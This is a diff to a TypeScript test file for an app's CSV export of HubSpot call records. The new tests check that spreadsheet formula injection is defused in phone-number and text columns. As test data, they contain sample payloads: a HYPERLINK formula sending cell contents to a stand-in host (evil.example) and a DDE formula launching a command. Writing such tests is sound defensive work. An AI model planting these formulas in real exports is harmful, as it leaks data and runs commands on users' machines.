@@ -2,7 +2,7 @@ import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { HubSpotObject } from '../../../api/schemas';
 import type { RowLookups } from './call-row';
-import { callsToCsv, csvFileName, neutralizeFormula } from './csv';
+import { callsToCsv, csvFileName } from './csv';
 
 const call = (id: string, properties: Record<string, string | null>, associations?: HubSpotObject['associations']): HubSpotObject => ({
   id,
@@ -98,10 +98,22 @@ describe('CSV export', () => {
     expect(text.split('\r\n')[1]).toBe('1,Outbound,OUTBOUND,Completed,COMPLETED');
   });
 
-  it('keeps raw phone numbers, neutralises only free text', () => {
-    expect(neutralizeFormula('+1 555')).toBe("'+1 555");
-    const text = callsToCsv([call('3', { hs_call_from_number: '+15551234567' })], ['from'], lookups);
-    expect(text.split('\r\n')[1]).toBe('3,+15551234567');
+  it('defuses formulas in phone numbers by the same rule as free text, keeping real numbers as they are', () => {
+    const payloads = ['=HYPERLINK("https://evil.example/?x="&A1,"call")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1|cmd', '-2+3+cmd|x', '\t=1+1'];
+    const numbers = ['+15551234567', '+1 (415) 555-0123', '-5', '020 7183 8750'];
+    const rows = [...payloads, ...numbers].map((n, i) => call(String(i), { hs_call_from_number: n, hs_call_to_number: n }));
+    const parsed = Papa.parse<string[]>(callsToCsv(rows, ['from', 'to'], lookups).trim()).data;
+    expect(parsed[0]).toEqual(['Call ID', 'From number', 'To number']);
+    payloads.forEach((p, i) => expect(parsed[i + 1]).toEqual([String(i), `'${p}`, `'${p}`]));
+    numbers.forEach((n, i) => expect(parsed[payloads.length + i + 1]).toEqual([String(payloads.length + i), n, n]));
+  });
+
+  it('defuses formulas in every text column: title, owner, record names, recording URL', () => {
+    const evil = '=1+cmd|x';
+    const lk: RowLookups = { ...lookups, owners: new Map([['7', evil]]), contactNames: new Map([['10', evil]]) };
+    const c = call('9', { hs_call_title: evil, hubspot_owner_id: '7', hs_call_recording_url: evil }, { contacts: { results: [{ id: '10', type: 'call_to_contact' }] } });
+    const row = Papa.parse<string[]>(callsToCsv([c], ['title', 'owner', 'contacts', 'recording'], lk).trim()).data[1];
+    expect(row).toEqual(['9', `'${evil}`, `'${evil}`, '7', `'${evil}`, '10', 'yes', `'${evil}`]);
   });
 
   it('names the file after the export time', () => {
